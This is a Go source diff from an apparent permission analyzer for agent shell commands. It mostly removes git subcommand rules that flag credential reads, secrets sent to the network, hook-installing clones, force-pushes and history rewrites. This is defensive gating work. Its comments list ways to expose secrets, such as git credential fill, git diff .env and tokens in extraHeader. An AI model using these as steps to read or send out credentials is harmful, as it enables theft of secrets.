-			if h := urlHost(w.val); h != "" {
-				hosts = append(hosts, h)
-			}
-		}
-		for _, w := range args {
-			// a token in the URL or an -c http.extraHeader goes to the URL's host
-			if w.taint || w.secretName != "" && secretOffService(w.secretName, hosts) {
-				g.floor = reason("floor.exfil", "a secret is sent to the network by git")
-			}
-		}
-	}
-	// files written where an option says, not in the work tree
-	switch sub {
-	case "archive":
-		for _, w := range optionValues(rest, 'o', "--output") {
-			a.writeWord(w, gsc, gidx)
-		}
-	case "checkout-index":
-		for _, w := range rest {
-			if p, ok := strings.CutPrefix(w.val, "--prefix="); ok {
-				a.writeFact(a.resolveMaybe(w, p, gsc, true), gidx)
-			}
-		}
-	case "apply", "am":
-		for _, w := range optionValues(rest, 0, "--directory") {
-			a.writeWord(w, gsc, gidx) // with --unsafe-paths it may leave the project
-		}
-	case "hash-object":
-		for _, o := range ops {
-			a.readWord(rest[o], gsc, gidx, false) // -w stores the file in the repository
-		}
-	}
-	if workTree.raw != "" {
-		switch sub {
-		case "checkout", "restore", "switch", "reset", "checkout-index", "read-tree", "apply", "am", "stash", "merge", "pull",
-			"cherry-pick", "revert", "rebase", "clean", "rm", "mv":
-			// --work-tree=DIR: the files it writes are under DIR
-			a.writeFact(workTree, gidx)
-			if dd := slices.IndexFunc(rest, func(w word) bool { return w.val == "--" }); dd >= 0 && workTree.known {
-				for _, w := range rest[dd+1:] {
-					a.writeFact(a.resolveMaybe(w, w.val, &scope{cwd: workTree.abs}, true), gidx)
-				}
-			}
-		}
-	}
-	switch sub {
-	case "add", "stage":
-		// staging a secret is the first step to publishing it
-		for _, o := range ops {
-			if r := a.resolveMaybe(rest[o], rest[o].val, gsc, false); a.sensitive(r) {
-				a.readFact(r, gidx, false)
-			}
-		}
-	case "fetch":
-		// +SRC:DST (or -f with SRC:DST) force-updates DST: a local branch loses its
-		// commits like after a force-push; remote-tracking refs are git's own
-		force := hasLongAbbrev(rest, "--force") || hasShort(rest, "f")
-		for _, o := range opVals() {
-			_, dst, ok := strings.Cut(o, ":")
-			if ok && dst != "" && (force || strings.HasPrefix(o, "+")) && !strings.HasPrefix(dst, "refs/remotes/") {
-				human("human.history-rewrite", "git fetch with a forced refspec overwrites local branches")
-			}
-		}
-	case "clone":
-		if hasLongAbbrev(rest, "--template", "--separate-git-dir") {
-			g.ask = reason("ask.flag", "git clone --template installs hooks that run at once")
-		}
-		if hasLongAbbrev(rest, "--config") || hasShort(rest, "cu") {
-			g.ask = reason("ask.flag", "git clone -c/-u sets configuration or a program that runs")
-		}
-		cops := operands(rest, map[string]bool{"-b": true, "--branch": true, "-o": true, "--origin": true, "--depth": true,
-			"-c": true, "--config": true, "--reference": true, "--reference-if-able": true, "-u": true, "--upload-pack": true,
-			"-j": true, "--jobs": true, "--filter": true, "--shallow-since": true, "--shallow-exclude": true, "--server-option": true})
-		if len(cops) > 1 {
-			a.writeWord(rest[cops[1]], gsc, gidx) // the directory it creates
-		}
-	case "push":
-		// a URL, or --repo, instead of a configured remote: the repository goes anywhere
-		if hasLongAbbrev(rest, "--repo") || len(ops) > 0 && isRemoteURL(rest[ops[0]].val) {
-			g.ask = reason("ask.flag", "git push to a URL, not a configured remote")
-		}
-		// git takes unique prefixes of long options: --force-w, --dele, --mi
-		force := hasLongAbbrev(rest, "--force", "--force-with-lease", "--force-if-includes", "--mirror", "--delete", "--prune") || hasShort(rest, "fd")
-		for _, o := range opVals() {
-			if strings.HasPrefix(o, "+") || strings.HasPrefix(o, ":") {
-				force = true
-			}
-		}
-		if force {
-			human("human.force-push", "force-push or remote deletion rewrites shared history")
-		}
-		s := summary{net: true}
-		return s
-	case "reset":
-		if hasLongAbbrev(rest, "--hard", "--merge", "--keep") {
-			human("human.history-rewrite", "git reset --hard discards work")
-		}
-	case "clean":
-		if hasShort(rest, "f") || hasLongAbbrev(rest, "--force") {
-			human("human.history-rewrite", "git clean -f deletes untracked files")
-		} else if hasShort(rest, "n") || hasFlag(rest, "--dry-run") {
-			safe()
-		}
-	case "checkout", "restore", "switch":
-		// -B / -C reset an existing branch to another commit
-		discard := hasLongAbbrev(rest, "--force", "--discard-changes", "--force-create") || hasShort(rest, "f") && sub != "restore" ||
-			sub == "checkout" && hasShort(rest, "B") || sub == "switch" && hasShort(rest, "C")
-		for _, o := range opVals() {
-			if o == "." || o == ":/" || o == "*" {
-				discard = true
-			}
-		}
-		// pathspecs (restore's operands, checkout's after --) overwrite
-		// uncommitted work; a directory or pattern is checkout -- . for a tree
-		dd := slices.IndexFunc(rest, func(w word) bool { return w.val == "--" })
-		if sub == "restore" || sub == "checkout" && dd >= 0 {
-			from := rest
-			if sub == "checkout" {
-				from = rest[dd:]
-			}
-			for _, o := range operands(from, map[string]bool{"-s": true, "--source": true}) {
-				if from[o].dyn || a.broadPathspec(from[o].val, gsc) {
-					discard = true
-				}
-			}
-			if sub == "restore" && hasFlag(rest, "--pathspec-from-file") {
-				discard = true
-			}
-		}
-		staged := hasFlag(rest, "--staged") || hasShort(rest, "S")
-		worktree := hasFlag(rest, "--worktree") || hasShort(rest, "W")
-		if sub == "restore" && staged && !worktree {
-			discard = false // only unstages
-		}
-		if sub == "restore" && staged && worktree && !discard {
-			// a grant for git restore --staged must not cover it
-			g.ask = reason("ask.flag", "git restore --worktree discards local changes")
-		}
-		if discard {
-			human("human.history-rewrite", "git "+sub+" discards local changes")
-		}
-		// a pathspec of perm-peer's own files overwrites them from the index
-		// or a commit (checkout HEAD~ .perm-peer, restore --source=X …)
-		if !(sub == "restore" && staged && !worktree) {
-			for _, o := range operands(rest, map[string]bool{"-s": true, "--source": true, "-b": true, "-B": true, "-c": true, "-C": true, "--orphan": true}) {
-				if r := a.resolveMaybe(rest[o], rest[o].val, gsc, true); a.protectedWrite(r, false) {
-					a.writeFact(r, gidx)
-				}
-			}
-		}
-	case "rm":
-		if !hasFlag(rest, "--cached") {
-			how := rmPlain
-			if hasShort(rest, "f") || hasFlag(rest, "--force") {
-				how = rmForce
-			}
-			if hasShort(rest, "r") {
-				how = rmRecursive
-			}
-			for _, o := range operands(rest, nil) {
-				a.deleteWord(rest[o], gsc, gidx, how)
-			}
-		}
-	case "mv":
-		// git mv .env notes.txt renames like mv: a secret under a name
-		// later reads do not recognise (the rest stays git's own rules:
-		// git mv .perm-peer x is human.protected-touch)
-		if o := operands(rest, nil); len(o) > 1 {
-			// moving into or out of perm-peer's own files writes them
-			for _, i := range o {
-				if r := a.resolveMaybe(rest[i], rest[i].val, gsc, true); a.protectedWrite(r, false) {
-					a.writeFact(r, gidx)
-				}
-			}
-			for _, i := range o[:len(o)-1] {
-				if r := a.resolveMaybe(rest[i], rest[i].val, gsc, false); a.sensitive(r) {
-					a.add(&rfact{kind: protocol.FactRead, path: r, parent: gidx,
-						human: reason("human.sensitive-read", "git mv gives a sensitive file another name")})
-				}
-			}
-		}
-	case "lfs":
-		if len(ops) > 0 && (rest[ops[0]].val == "install" || rest[ops[0]].val == "update") {
-			human("human.persistence-write", "git lfs install writes git hooks")
-		}
-	case "credential", "credential-store", "credential-cache", "credential-osxkeychain", "credential-libsecret", "credential-manager", "credential-wincred":
-		// git credential fill prints the stored password
-		a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: "git " + sub}, parent: gidx,
-			human: reason("human.sensitive-read", "reads stored git credentials")})
-		return summary{taint: true}
-	case "filter-branch", "filter-repo", "replace":
-		human("human.history-rewrite", "git "+sub+" rewrites history")
-	case "rebase":
-		// --abort and --quit end a rebase without rewriting more
-		if !hasLongAbbrev(rest, "--abort", "--quit", "--show-current-patch") {
-			g.human, g.clearWord = reason("human.history-rewrite", "git rebase rewrites commits"), sub // Bash(git rebase:*) clears it
-		}
-	case "commit":
-		if hasLongAbbrev(rest, "--amend") {
-			g.human, g.clearWord = reason("human.history-rewrite", "git commit --amend replaces the last commit"), "--amend"
-		}
-	case "reflog":
-		if len(ops) > 0 && (rest[ops[0]].val == "expire" || rest[ops[0]].val == "delete") {
-			human("human.history-rewrite", "git reflog "+rest[ops[0]].val+" destroys recovery points")
-		} else {
-			safe()
-		}
-	case "update-ref":
-		human("human.history-rewrite", "git update-ref moves or deletes a ref, past what the reflog shows")
-	case "gc", "prune":
-		if sub == "prune" || hasLongAbbrev(rest, "--prune") {
-			human("human.history-rewrite", "git "+sub+" deletes unreachable commits, the last copy of lost work")
-		}
-	case "read-tree", "checkout-index":
-		if hasShort(rest, "uf") || hasFlag(rest, "--reset", "--force") {
-			human("human.history-rewrite", "git "+sub+" overwrites files in the work tree")
-		}
-	case "branch":
-		del := hasShort(rest, "d") || hasLongAbbrev(rest, "--delete")
-		force := hasShort(rest, "f") || hasLongAbbrev(rest, "--force")
-		if hasShort(rest, "DMC") || del && force || force && len(ops) > 1 {
-			// -D deletes, -M/-C overwrite a branch, -f NAME START moves one
-			human("human.history-rewrite", "git branch deletes or overwrites a branch")
-		} else if !hasFlag(rest, "-d", "--delete", "-m", "-M", "-c", "-C", "--move", "--copy", "-u", "--set-upstream-to", "--unset-upstream", "--edit-description", "-f", "--force") &&
-			(len(ops) == 0 || hasFlag(rest, "--list", "-l", "--contains", "--no-contains", "--merged", "--no-merged", "--points-at")) {
-			safe()
-		}
-	case "stash":
-		if len(ops) > 0 && (rest[ops[0]].val == "list" || rest[ops[0]].val == "show") {
-			safe()
-		}
-		if len(ops) > 0 && (rest[ops[0]].val == "drop" || rest[ops[0]].val == "clear") {
-			human("human.history-rewrite", "git stash "+rest[ops[0]].val+" destroys stashed work")
-		}
-	case "tag":
-		if hasFlag(rest, "-d", "--delete", "-f", "--force") || hasShort(rest, "df") {
-			human("human.history-rewrite", "git tag -d/-f deletes or moves a tag")
-		}
-		if len(ops) == 0 || hasFlag(rest, "-l", "--list") && !hasFlag(rest, "-d", "--delete", "-f", "--force", "-a", "-s", "-m") {
-			if !hasFlag(rest, "-d", "--delete", "-f", "--force", "-a", "-s", "-m", "-F") {
-				safe()
-			}
-		}
-	case "remote":
-		switch {
-		case len(ops) == 0 || rest[ops[0]].val == "show" || rest[ops[0]].val == "get-url":
-			safe()
-			// git remote -v prints the URLs, a token written into one too
-			a.readGitConfig(cwd, gidx)
-		case rest[ops[0]].val == "add" || rest[ops[0]].val == "set-url" || rest[ops[0]].val == "rename":
-			// later pushes and fetches go where the new URL says
-			human("human.persistence-write", "git remote "+rest[ops[0]].val+" changes where pushes and fetches go")
-		}
-	case "worktree":
-		if len(ops) > 0 && rest[ops[0]].val == "list" {
-			safe()
-		}
-		if len(ops) > 0 && rest[ops[0]].val == "remove" && (hasFlag(rest, "--force") || hasShort(rest, "f")) {
-			human("human.history-rewrite", "git worktree remove --force deletes uncommitted work")
-		}
-		if len(ops) > 0 && rest[ops[0]].val == "add" {
-			// git worktree add [-b BRANCH] PATH: checks files out at PATH
-			add := rest[ops[0]+1:]
-			if p := operands(add, map[string]bool{"-b": true, "-B": true, "--reason": true}); len(p) > 0 {
-				a.writeWord(add[p[0]], gsc, gidx)
-			}
-		}
-	case "symbolic-ref":
-		// with a target (or -d) it rewrites HEAD or another ref, like update-ref
-		if len(operands(rest, map[string]bool{"-m": true})) > 1 || hasShort(rest, "d") || hasFlag(rest, "--delete") {
-			human("human.history-rewrite", "git symbolic-ref moves a ref, past what the reflog shows")
-		} else {
-			safe()
-		}
-	case "config":
-		if !hasFlag(rest, "--global", "--system", "-f", "--file", "--blob") && !hasLongAbbrev(rest, "--file") {
-			// git config -l or --get remote.origin.url print .git/config
-			a.readGitConfig(cwd, gidx)
-		}
-		for j, w := range rest {
-			if (w.val == "-f" || w.val == "--file" || w.val == "--blob") && j+1 < len(rest) {
-				a.readWord(rest[j+1], gsc, gidx, false)
-			} else if strings.HasPrefix(w.val, "--file=") {
-				a.readFact(a.resolvePath(strings.TrimPrefix(w.val, "--file="), cwd, false), gidx, false)
-			}
-		}
-		write := hasFlag(rest, "--add", "--unset", "--unset-all", "--replace-all", "--edit", "-e", "--rename-section", "--remove-section") || len(ops) >= 2 && !hasFlag(rest, "--get", "--get-all", "--get-regexp", "-l", "--list")
-		secretKey := false
-		for _, o := range ops {
-			secretKey = secretKey || gitSecretKey().MatchString(rest[o].val)
-		}
-		switch {
-		case write:
-		case secretKey:
-			// http.extraHeader, credential.*, *.token, *password: the value is a secret
-			a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: "git config " + opVals()[0]}, parent: gidx,
-				human: reason("human.sensitive-read", "reads a credential from git config")})
-			return summary{taint: true}
-		case hasFlag(rest, "-l", "--list", "--get-regexp", "--get-urlmatch") || hasShort(rest, "l") || len(ops) > 0 && rest[ops[0]].val == "list":
-			g.ask = reason("ask.config-dump", "lists git config, which may hold credentials (http.extraHeader, tokens in URLs)")
-			return summary{}
-		}
-		if write {
-			target := filepath.Join(cwd, ".git", "config")
-			switch {
-			case hasFlag(rest, "--global"):
-				target = filepath.Join(a.env.Home, ".gitconfig")
-			case hasFlag(rest, "--system"):
-				target = "/etc/gitconfig"
-			}
-			a.writeFact(a.resolvePath(target, "", true), gidx)
-		} else {
-			safe()
-		}
-	case "blame", "annotate":
-		for j, w := range rest {
-			if w.val == "--contents" && j+1 < len(rest) {
-				a.readWord(rest[j+1], gsc, gidx, false)
-			}
-		}
-		for _, o := range ops {
-			a.readWord(rest[o], gsc, gidx, false)
-		}
-		safe()
-	case "show", "cat-file":
-		for _, o := range ops {
-			v := rest[o].val
-			if c := strings.IndexByte(v, ':'); c >= 0 && c+1 < len(v) {
-				a.readFact(a.resolvePath(v[c+1:], cwd, false), gidx, false)
-			} else {
-				a.readWord(rest[o], gsc, gidx, false)
-			}
-		}
-		safe()
-	case "diff", "log", "whatchanged", "show-branch":
-		// operands may be paths: git diff .env shows the secret's changes;
-		// git log --format=%ci -- .env or git diff --stat only name them
-		namesOnly := gitNamesOnly(sub, rest)
-		for _, o := range ops {
-			if sub == "log" && o > 0 && rest[o-1].val == "-L" {
-				continue // read below
-			}
-			// for f in $(git ls-files): git diff -- "$f" shows part of
-			// what git diff over the whole tree does
-			w := rest[o]
-			a.readWord(w, gsc, gidx, namesOnly || w.dyn && w.projPaths && w.secretPaths && w.broadPaths)
-		}
-		// git log -L START,END:FILE, -L :FUNC:FILE, -L /regex/,+5:FILE
-		// print lines of FILE, after the last colon; START may be /regex/
-		for i, w := range rest {
-			if w.val == "--" {
-				break
-			}
-			v, ok := strings.CutPrefix(w.val, "-L")
-			if sub != "log" || !ok || w.dyn {
-				continue
-			}
-			if v == "" && i+1 < len(rest) {
-				w = rest[i+1]
-				v = w.val
-			}
-			if c := strings.LastIndexByte(v, ':'); c >= 0 && !w.dyn {
-				v = v[c+1:]
-			}
-			a.readWord(word{val: v, dyn: w.dyn}, gsc, gidx, false)
-		}
-		safe()
-	case "ls-remote":
-		// a configured remote only: a URL sends whatever it spells to any host
-		if len(ops) == 0 || len(ops) >= 1 && !strings.ContainsAny(rest[ops[0]].val, ":/") && !rest[ops[0]].dyn {
-			safe()
-		}
-	case "grep":
-		// PATTERN [REV...] [-- PATH...]: a path operand is read (git grep
-		// -h . .env prints it), and outside the index (--no-index,
-		// --untracked) the search reaches hidden files like grep -r.
-		for _, w := range gs.paths {
-			a.readWord(w, gsc, gidx, false)
-		}
-		if hasLongAbbrev(rest, "--no-index", "--untracked") {
-			// the files on disk, as grep -r -R reads them (searchscope.go)
-			gs.follow = true
-			if c := gs.checkScope(a, gs.searchRoots(a, gsc)); c.code != "" {
-				human(c.code, "git grep outside the index: "+c.why)
-			}
-			if why := gs.huntsSecrets(); why != "" {
-				human("human.sensitive-read", "git grep outside the index reads hidden files such as .env and "+why)
-			}
-		}
-		safe()
-	case "var":
-		if hasFlag(rest, "-l") {
-			g.ask = reason("ask.config-dump", "git var -l lists git config, which may hold credentials")
-			return summary{}
-		}
-		safe()
-	case "submodule":
-		// git submodule [status]: the commit each submodule has checked out
-		if len(ops) == 0 || rest[ops[0]].val == "status" {
-			safe()
-		}
-	case "status", "rev-parse", "ls-files", "ls-tree", "describe", "shortlog", "merge-base", "name-rev",
-		"rev-list", "show-ref", "for-each-ref", "count-objects", "check-ignore", "check-attr", "help", "version",
-		"cherry", "range-diff", "verify-commit", "verify-tag", "diff-tree", "diff-files", "diff-index":
-		safe()
-	}
-	if g.safe != nil && (otherRepo || cwd == "" || !within(cwd, a.env.Project)) {
-		g.safe = nil
-		g.ask = reason("ask.outside-read", "git in a directory outside the project")
-	}
-	// git ls-files and --name-only print paths of the repository
-	lists := sub == "ls-files" || (sub == "diff" || sub == "show" || sub == "log") && hasFlag(rest, "--name-only")
-	s := summary{projList: lists && g.safe != nil && cwd != "" && within(cwd, a.env.Project)}
-	// git ls-files .., :/ or /abs lists the repository outside the project:
-	// not project names, but they may still be secrets (secretList below)
-	outside := sub == "ls-files" && slices.ContainsFunc(ops, func(o int) bool {
-		v := rest[o].val
-		return rest[o].dyn || strings.HasPrefix(v, ":") || !within(a.resolvePath(v, cwd, false).abs, a.env.Project)
-	})
-	// git ls-files '*.go': every pathspec a wildcard that cannot match a
-	// secret's name (a literal one names a directory, all files below it)
-	s.cleanList = s.projList && sub == "ls-files" && len(ops) > 0 && !slices.ContainsFunc(ops, func(o int) bool {
-		v := rest[o].val
-		return rest[o].dyn || !hasGlob(v) || strings.HasPrefix(v, ":") || patternMaySelectSecret(v, true)
-	})
-	// like find without a name filter: a tracked (or, with -o, untracked)
-	// .env may be among the names (also of git diff --name-only)
-	s.secretList = s.projList && !s.cleanList
-	// no pathspec aimed at secrets, nor the ignored files where they live
-	s.broadList = s.secretList && !hasFlag(rest, "-i", "--ignored") && !slices.ContainsFunc(ops, func(o int) bool {
-		return rest[o].dyn || patternMaySelectSecret(rest[o].val, true)
-	})
-	if outside {
-		s.projList, s.cleanList, s.broadList = false, false, false
-	}
-	return s
 }
 
 // find lists files; -delete, -exec and -fprint make it more than a reader.
@@ -5399,7 +4983,8 @@ func gitConfigOf(dir string) string {
 // It returns what the command prints when that is its stdin (a bare cat).
 func (a *analyzer) reader(f *rfact, idx int, lb string, args []word, sc *scope) *stdinSrc {
 	var out *stdinSrc
-	inv := parseArgs(cmds.Reader(lb), args)
+	c := cmds.Reader(lb)
+	inv := parseArgs(c, args)
 	ok := true
 	// what the declared flags do with their values: a file read, a file
 	// naming files read, a file written; a flag that writes, runs a
@@ -5436,7 +5021,7 @@ func (a *analyzer) reader(f *rfact, idx int, lb string, args []word, sc *scope) 
 	if lb == "cat" && len(ops) == 0 && len(args) == 0 {
 		out = a.stdin
 	}
-	if listers[lb] && lb != "df" && len(ops) == 0 {
+	if c.Output == argv.Names && len(ops) == 0 {
 		// ls, tree, du with no operand list the working directory
 		if sc.cwd == "" {
 			a.readFact(pathRef{raw: "."}, idx, true)
@@ -5445,9 +5030,10 @@ func (a *analyzer) reader(f *rfact, idx int, lb string, args []word, sc *scope) 
 		}
 	}
 	// counters show a count or a type and listers names, never contents
-	// (wc -l *.json, file .env); tree --fromfile prints the lines of its
-	// operands, and a flag the table lacks may make any of them print them
-	listOnly := (counters[lb] || listers[lb] && !inv.Has("--fromfile")) && len(inv.Unknown) == 0
+	// (wc -l *.json, file .env), and a dynamic path a project listing gave
+	// them is harmless; tree --fromfile prints the lines of its operands,
+	// and a flag the table lacks may make any of them print them
+	listOnly := c.Output != argv.Contents && !inv.Has("--fromfile") && len(inv.Unknown) == 0
 	for _, i := range ops {
 		if lb != "tr" && args[i].val != "-" {
 			a.readWord(args[i], sc, idx, listOnly)
